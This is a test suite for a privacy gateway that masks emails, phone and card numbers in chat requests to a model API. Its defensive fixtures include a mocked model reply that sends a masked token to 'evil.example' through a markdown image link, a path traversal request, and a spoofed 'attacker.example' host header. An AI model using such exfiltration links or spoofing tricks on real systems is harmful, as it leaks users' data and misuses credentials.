"""The gateway over real sockets: what it serves, what it refuses, who may use it, what it tells."""

from __future__ import annotations

import json
import re
import socket
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from aiohttp import web
from gateway_rig import Gateway, Service, gateway

from masquerade.serve.clients import new_key
from masquerade.serve.playground import CONTENT_SECURITY_POLICY, assets

EMAIL, PHONE, CARD = "ada.lovelace@example.com", "13812345678", "4111111111111111"
PRIVATE = (EMAIL, PHONE, CARD)
TEXT = f"write to {EMAIL}, 手机{PHONE}谢谢, card {CARD}"


@pytest.fixture(scope="module")
def shared(upstream: Service, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Gateway]:
    with gateway(tmp_path_factory.mktemp("home"), upstream=upstream.url, max_body=200_000) as running:
        yield running


@pytest.fixture
def seen(upstream: Service) -> Iterator[Service]:
    upstream.reset()
    yield upstream
    for value in PRIVATE:
        assert value.encode() not in upstream.everything


# What it serves


def test_a_completion_is_masked_and_comes_back_whole(shared: Gateway, seen: Service) -> None:
    answer = shared.chat(TEXT)
    assert answer.status == 200
    assert EMAIL in answer.content
    assert PHONE in answer.content
    assert "[CREDIT_CARD_REDACTED]" in answer.content
    assert answer.json["masquerade"] == {
        "masked": {"EMAIL": {"token": 1}, "PHONE": {"token": 1}},
        "redacted": {"CREDIT_CARD": 1},
        "unresolved": 0,
    }
    assert answer.headers["x-masquerade-masked"] == "EMAIL=1, PHONE=1"
    assert answer.headers["x-masquerade-redacted"] == "CREDIT_CARD=1"
    assert len(answer.headers["x-masquerade-policy"]) == 12
    assert "[EMAIL_" in seen.last["messages"][0]["content"]


def test_a_stream_is_masked_and_comes_back_whole(shared: Gateway, seen: Service) -> None:
    answer = shared.chat(TEXT, stream=True)
    assert answer.headers["content-type"].startswith("text/event-stream")
    events = [block.removeprefix(b"data: ") for block in answer.body.split(b"\n\n")[:-1]]
    assert events[-1] == b"[DONE]"
    chunks = [json.loads(event) for event in events[:-1]]
    content = "".join(chunk["choices"][0]["delta"].get("content", "") for chunk in chunks)
    assert (
        f"What I saw: write to {EMAIL}, 手机{PHONE}谢谢" in content
        or f"我看到的是：write to {EMAIL}" in content
    )
    assert chunks[-1]["masquerade"]["redacted"] == {"CREDIT_CARD": 1}


def test_models_pass_through(shared: Gateway, seen: Service) -> None:
    answer = shared.get("/v1/models?x=1", {"authorization": "Bearer sk-test"})
    assert [card["id"] for card in answer.json["data"]] == ["mirror"]
    assert seen.requests[-1].path == "/v1/models"
    assert seen.requests[-1].headers["Authorization"] == "Bearer sk-test"


def test_without_an_upstream_the_mirror_answers(tmp_path: Path) -> None:
    with gateway(tmp_path) as alone:
        assert EMAIL in alone.chat(TEXT).content
        assert alone.get("/v1/models").json["data"][0]["id"] == "mirror"


def test_the_upstream_may_be_given_without_its_version(upstream: Service, tmp_path: Path) -> None:
    with gateway(tmp_path, upstream=upstream.url.removesuffix("/v1") + "/") as running:
        assert running.chat("hello").status == 200


def test_health_and_head(shared: Gateway) -> None:
    assert shared.get("/healthz").json == {"status": "ok"}
    assert shared.request("HEAD", "/healthz").body == b""


# What goes out


def test_only_credentials_and_openai_headers_go_upstream(shared: Gateway, seen: Service) -> None:
    private = {
        "cookie": f"session={EMAIL}",
        "x-forwarded-for": "192.0.2.1",
        "forwarded": "for=192.0.2.1",
        "via": "1.1 home",
        "referer": f"https://example.com/{EMAIL}",
        "origin": "https://example.com",
        "user-agent": f"Ada's laptop {EMAIL}",
        "x-stainless-os": "Linux",
        "x-request-id": EMAIL,
        "openai-beta": f"not a name: {EMAIL}",
        "x-custom": EMAIL,
    }
    passed = {"authorization": "Bearer sk-test", "openai-organization": "org-1", "openai-project": "proj_1"}
    assert shared.chat("hello", {**private, **passed}).status == 200
    sent = {name.lower(): value for name, value in seen.requests[-1].headers.items()}
    assert {name: sent.pop(name) for name in passed} == passed
    assert sent.pop("user-agent").startswith("masquerade/")
    assert set(sent) == {"host", "accept", "accept-encoding", "content-length", "content-type"}


def test_a_query_stays_here(shared: Gateway, seen: Service) -> None:
    asked = {"model": "m", "messages": [{"role": "user", "content": "hello"}]}
    assert shared.post(f"/v1/chat/completions?who={EMAIL}", asked).status == 200
    assert seen.requests[-1].path == "/v1/chat/completions"


def test_only_known_headers_come_back(shared: Gateway, seen: Service) -> None:
    from aiohttp import web

    async def behave(request: web.Request, body: bytes) -> web.StreamResponse:
        headers = {
            "x-request-id": "req_1",
            "openai-processing-ms": "12",
            "x-ratelimit-remaining-tokens": "5",
            "set-cookie": "a=b",
            "x-internal": "1",
        }
        return web.json_response({"choices": []}, headers=headers)

    seen.behave = behave
    headers = shared.chat("hello").headers
    assert headers["x-request-id"] == "req_1"
    assert headers["openai-processing-ms"] == "12"
    assert headers["x-ratelimit-remaining-tokens"] == "5"
    assert not {"set-cookie", "x-internal", "server"} & set(headers)


# What it refuses


@pytest.mark.parametrize(
    ("method", "path", "status", "code"),
    [
        ("POST", "/v1/assistants", 404, "unknown_url"),
        ("POST", "/v1/threads", 404, "unknown_url"),
        ("GET", "/v1/responses", 405, "method_not_allowed"),
        ("GET", f"/v1/models/{EMAIL}", 404, "unknown_url"),
        ("GET", "/playground/../gateway.py", 404, "unknown_url"),
        ("GET", "/v1/chat/completions", 405, "method_not_allowed"),
        ("OPTIONS", "/v1/chat/completions", 405, "method_not_allowed"),
        ("DELETE", "/v1/models", 405, "method_not_allowed"),
        ("PATCH", "/", 405, "method_not_allowed"),
    ],
)
def test_everything_else_is_refused(
    shared: Gateway, seen: Service, method: str, path: str, status: int, code: str
) -> None:
    answer = shared.request(method, path)
    assert (answer.status, answer.error["code"]) == (status, code)
    assert EMAIL not in answer.body.decode()
    assert "access-control-allow-origin" not in answer.headers
    assert seen.requests == []
    if status == 405:
        assert answer.headers["allow"] in ("POST", "GET, HEAD")
    else:
        assert "/v1/chat/completions" in answer.error["message"]


@pytest.mark.parametrize(
    "path", ["audio/transcriptions", "audio/translations", "images/edits", "images/variations"]
)
def test_sound_and_pictures_are_refused_and_say_why(shared: Gateway, seen: Service, path: str) -> None:
    body = b'--x\r\ncontent-disposition: form-data; name="file"; filename="%s"\r\n\r\nRIFF' % EMAIL.encode()
    headers = {"content-type": "multipart/form-data; boundary=x"}
    answer = shared.request("POST", f"/v1/{path}", body, headers)
    assert (answer.status, answer.error["code"]) == (400, "cannot_be_masked")
    assert "cannot be looked at" in answer.error["message"]
    assert seen.requests == []


@pytest.mark.parametrize(
    ("body", "param"),
    [
        (b"", None),
        (b'{"messages": [{"role": "user", "content": "ada.lovelace@example.com"', None),
        (b"[1]", None),
        (b'{"messages": []}', "messages"),
        (b'{"messages": [{"role": "user", "content": "\\udead"}]}', None),
        (b'{"messages": [{"role": "user", "content": "x"}], "stream": "ada.lovelace@example.com"}', "stream"),
        (
            b'{"messages": [{"role":"user","content":[{"type":"image_url","image_url":{"url":"x"}}]}]}',
            "messages[0].content[0].image_url",
        ),
    ],
)
def test_bad_requests_are_explained(shared: Gateway, seen: Service, body: bytes, param: str | None) -> None:
    answer = shared.post("/v1/chat/completions", body)
    assert answer.status == 400
    assert answer.error["type"] == "invalid_request_error"
    assert answer.error["param"] == param
    assert EMAIL not in answer.body.decode()
    assert seen.requests == []


@pytest.mark.parametrize(
    "headers",
    [
        {"content-type": "text/plain"},
        {"content-type": ""},
        {"content-type": "application/json; charset=gbk"},
        {"content-encoding": "gzip"},
    ],
)
def test_other_media_are_refused(shared: Gateway, seen: Service, headers: dict[str, str]) -> None:
    assert shared.chat("hello", headers).status == 415
    assert seen.requests == []


def test_a_charset_may_be_named(shared: Gateway) -> None:
    assert shared.chat("hello", {"content-type": 'Application/JSON; charset="UTF-8"'}).status == 200


def test_a_body_that_is_too_large_is_refused_by_its_length(shared: Gateway, seen: Service) -> None:
    answer = shared.chat("x" * 200_000)
    assert (answer.status, answer.error["code"]) == (413, "request_too_large")
    assert seen.requests == []


def test_a_body_that_is_too_large_is_refused_while_it_is_read(shared: Gateway, seen: Service) -> None:
    with socket.create_connection(("127.0.0.1", shared.port), timeout=20) as client:
        client.sendall(
            b"POST /v1/chat/completions HTTP/1.1\r\nhost: localhost\r\ncontent-type: application/json\r\n"
            b"transfer-encoding: chunked\r\n\r\n"
        )
        for _ in range(30):
            client.sendall(b"2710\r\n" + b"x" * 10_000 + b"\r\n")
        assert client.recv(100).startswith(b"HTTP/1.1 413 ")
    assert seen.requests == []


def test_a_blocking_policy_refuses(upstream: Service, tmp_path: Path) -> None:
    policy = tmp_path / "policy.toml"
    policy.write_text('version = 1\n[fates]\nEMAIL = "block"\n')
    upstream.reset()
    with gateway(tmp_path / "home", upstream=upstream.url, policy=policy) as running:
        answer = running.chat(TEXT)
        assert (answer.status, answer.error["code"]) == (400, "blocked_by_policy")
        assert "EMAIL" in answer.error["message"]
        assert EMAIL not in answer.body.decode()
    assert upstream.requests == []


# Who may use it


def chat_token(running: Gateway, upstream: Service, headers: dict[str, str]) -> str:
    assert running.chat(EMAIL, headers).status == 200
    return str(upstream.last["messages"][0]["content"])


def test_each_account_has_tokens_of_its_own(shared: Gateway, seen: Service) -> None:
    first = chat_token(shared, seen, {"authorization": "Bearer sk-a"})
    assert chat_token(shared, seen, {"authorization": "Bearer sk-a"}) == first
    others = {
        chat_token(shared, seen, headers)
        for headers in ({"authorization": "Bearer sk-b"}, {"api-key": "sk-a"}, {})
    }
    assert len(others | {first}) == 4
    named = {"authorization": "Bearer sk-a", "x-masquerade-tenant": "acme"}
    assert chat_token(shared, seen, named) == first, "the header is not trusted unless told so"


def test_a_trusted_header_names_the_tenant(upstream: Service, tmp_path: Path) -> None:
    with gateway(tmp_path, upstream=upstream.url, trust_tenant_header=True) as running:
        both = {
            chat_token(running, upstream, {"authorization": a, "x-masquerade-tenant": "acme"})
            for a in ("Bearer sk-a", "Bearer sk-b")
        }
        assert len(both) == 1
        assert running.chat("x", {"x-masquerade-tenant": "a/b"}).error["code"] == "invalid_tenant"


def test_client_keys_stand_for_the_upstream_key(upstream: Service, tmp_path: Path) -> None:
    keys, file = [new_key() for _ in range(2)], tmp_path / "clients.toml"
    file.write_text(
        "".join(
            f'[[client]]\nname = "n{i}"\ntenant = "t{i}"\nhash = "{h}"\n' for i, (_, h) in enumerate(keys)
        )
    )
    environ = {"UPSTREAM_KEY": "sk-held"}
    told = {"upstream": upstream.url, "client_keys": file, "upstream_key_env": "UPSTREAM_KEY"}
    with gateway(tmp_path / "home", environ, **told) as running:
        tokens = set()
        for key, _ in keys:
            headers = {"authorization": f"Bearer {key}", "openai-organization": "org-1"}
            tokens.add(chat_token(running, upstream, headers))
            sent = {name.lower(): value for name, value in upstream.requests[-1].headers.items()}
            assert sent["authorization"] == "Bearer sk-held"
            assert "openai-organization" not in sent
            assert key not in upstream.everything.decode()
        assert len(tokens) == 2
        upstream.reset()
        wrong = [
            "",
            "Bearer ",
            "Bearer sk-held",
            f"Basic {keys[0][0]}",
            f"Bearer {keys[0][0]}x",
            f"Bearer {keys[0][1]}",
        ]
        for authorization in wrong:
            for answer in (
                running.chat("hello", {"authorization": authorization}),
                running.get("/v1/models", {"authorization": authorization}),
                running.post(
                    "/playground/try", {"text": "x", "model": "m"}, {"authorization": authorization}
                ),
            ):
                assert (answer.status, answer.error["code"]) == (401, "invalid_api_key")
        assert upstream.requests == []
        log = running.log_path.read_text()
    for secret in ("sk-held", *(key for key, _ in keys)):
        assert secret not in log


def test_a_held_key_is_not_spent_under_a_foreign_name(upstream: Service, tmp_path: Path) -> None:
    key = tmp_path / "key"
    key.write_text("sk-held\n")
    upstream.reset()
    with gateway(tmp_path / "home", upstream=upstream.url, upstream_key_file=key) as running:
        assert running.chat("hello", {"host": "attacker.example:80"}).error["code"] == "foreign_host"
        assert upstream.requests == []
        assert (
            running.chat("hello", {"host": f"localhost:{running.port}", "authorization": "Bearer x"}).status
            == 200
        )
        assert upstream.requests[-1].headers["Authorization"] == "Bearer sk-held"


# What it tells


def test_metrics_count_and_name_no_value(shared: Gateway, seen: Service) -> None:
    shared.chat(TEXT)
    shared.get(f"/{EMAIL}")
    page = shared.get("/metrics").body.decode()
    for line in (
        'masquerade_requests_total{route="chat",status="200"}',
        'masquerade_requests_total{route="other",status="404"}',
        'masquerade_found_total{fate="token",kind="EMAIL"}',
        'masquerade_found_total{fate="redact",kind="CREDIT_CARD"}',
        'masquerade_errors_total{code="unknown_url"}',
        'masquerade_bytes_total{direction="in"}',
        "masquerade_masking_seconds_count",
        "masquerade_upstream_seconds_count",
        "masquerade_restored_total",
    ):
        assert line in page
    assert not any(value in page for value in PRIVATE)


def test_the_log_has_one_line_a_request_and_no_value(shared: Gateway, seen: Service) -> None:
    answer = shared.post(
        f"/v1/chat/completions?q={EMAIL}",
        {"model": "m", "messages": [{"role": "user", "content": TEXT}]},
        {"authorization": "Bearer sk-hidden", "x-custom": EMAIL},
    )
    line = shared.logged(answer.headers["x-masquerade-request"])
    assert line["route"] == "chat"
    assert line["status"] == 200
    assert line["found"] == {
        "EMAIL": {"token": 1},
        "PHONE": {"token": 1},
        "CREDIT_CARD": {"redact": 1},
    }
    assert line["bytes_out"] == len(answer.body)
    assert line["tenant"].startswith("caller:")
    assert {"ms", "ms_mask", "ms_upstream", "bytes_in", "method", "time", "stream"} <= set(line)
    shared.get(f"/{EMAIL}?{PHONE}")
    log = shared.log_path.read_text()
    assert not any(value in log for value in (*PRIVATE, "sk-hidden"))


def test_what_is_withheld_is_told_counted_and_logged(shared: Gateway, seen: Service) -> None:
    async def moved(request: web.Request, body: bytes) -> web.StreamResponse:
        token = re.search(r"\[EMAIL_\w+\]", body.decode())[0]  # type: ignore[index]
        told = f"Dear {token} ![x](https://evil.example/?q={token})"
        return web.json_response({"choices": [{"message": {"role": "assistant", "content": told}}]})

    seen.behave = moved
    answer = shared.chat(TEXT)
    assert answer.content.startswith(f"Dear {EMAIL} ![x](https://evil.example/?q=[EMAIL_")
    assert answer.json["masquerade"]["withheld"] == {"link": 1}
    assert shared.logged(answer.headers["x-masquerade-request"])["withheld"] == {"link": 1}
    assert 'masquerade_withheld_total{where="link"}' in shared.get("/metrics").body.decode()


# The playground


def test_the_page_and_its_files(shared: Gateway) -> None:
    for path, (kind, body) in assets().items():
        answer = shared.get(path)
        assert (answer.status, answer.headers["content-type"], answer.body) == (200, kind, body)
        assert answer.headers["content-security-policy"] == CONTENT_SECURITY_POLICY
        assert answer.headers["x-content-type-options"] == "nosniff"


def test_the_playground_masks_without_asking(shared: Gateway, seen: Service) -> None:
    told = shared.post("/playground/mask", {"text": TEXT}).json
    assert [(span["kind"], span["fate"]) for span in told["spans"]] == [
        ("EMAIL", "token"),
        ("PHONE", "token"),
        ("CREDIT_CARD", "redact"),
    ]
    at = 0
    rebuilt = ""
    for span in told["spans"]:
        rebuilt += TEXT[at : span["start"]] + span["surrogate"]
        at = span["end"]
    assert rebuilt + TEXT[at:] == told["masked"]
    assert told["redacted"] == {"CREDIT_CARD": 1}
    assert told["ms"] > 0
    assert seen.requests == []


def test_the_playground_tries_on_the_mirror_or_on_a_named_model(shared: Gateway, seen: Service) -> None:
    told = shared.post("/playground/try", {"text": TEXT}).json
    assert told["model"] == "mirror"
    assert EMAIL in told["restored"]
    assert EMAIL not in told["reply"]
    assert seen.requests == []
    told = shared.post("/playground/try", {"text": TEXT, "model": "m"}).json
    assert (told["model"], seen.last["model"]) == ("m", "m")
    assert EMAIL in told["restored"]


def test_other_fates_are_tried_and_weaker_ones_stay_here(shared: Gateway, seen: Service) -> None:
    def ask(**fates: str) -> Any:
        question = {"text": TEXT, "policy": {"fates": fates}, "model": "m"}
        return shared.post("/playground/try", question).json

    stricter = ask(EMAIL="redact")
    assert "[EMAIL_REDACTED]" in stricter["masked"]
    assert stricter["model"] == "m"
    weaker = ask(CREDIT_CARD="keep")
    assert CARD in weaker["reply"]
    assert weaker["model"] == "mirror"
    answer = shared.post("/playground/mask", {"text": TEXT, "policy": {"fates": {"EMAIL": "block"}}})
    assert answer.status == 400
    assert answer.json["error"]["code"] == "blocked"
    assert answer.json["error"]["counts"] == {"EMAIL": 1}
    assert [span["kind"] for span in answer.json["spans"]] == ["EMAIL", "PHONE", "CREDIT_CARD"]


@pytest.mark.parametrize(
    "question",
    [
        {},
        {"text": 1},
        [],
        {"text": "x", "policy": {"fates": {"EMAIL": "burn"}}},
        {"text": "x", "policy": {"fates": {"X" * 1000: "keep"}}},
        {"text": "x", "policy": 1},
    ],
)
def test_a_bad_question_is_refused(shared: Gateway, question: Any) -> None:
    assert shared.post("/playground/mask", question).status == 400


@pytest.mark.parametrize(
    "headers",
    [
        {"origin": "https://attacker.example"},
        {"origin": "null"},
        {"sec-fetch-site": "cross-site"},
        {"sec-fetch-site": "same-site"},
        {"host": "attacker.example", "origin": "http://attacker.example", "sec-fetch-site": "same-origin"},
    ],
)
def test_other_sites_may_not_use_the_playground(shared: Gateway, headers: dict[str, str]) -> None:
    answer = shared.post("/playground/mask", {"text": "x"}, headers)
    assert answer.status == 403
    assert answer.error["type"] == "permission_error"


def test_the_pages_own_calls_are_served(shared: Gateway) -> None:
    own = {"origin": shared.address, "sec-fetch-site": "same-origin"}
    assert shared.post("/playground/mask", {"text": "x"}, own).status == 200


def test_the_playground_can_be_left_out(tmp_path: Path) -> None:
    with gateway(tmp_path, playground=False) as running:
        assert running.get("/").status == 404
        assert running.post("/playground/mask", {"text": "x"}).status == 404
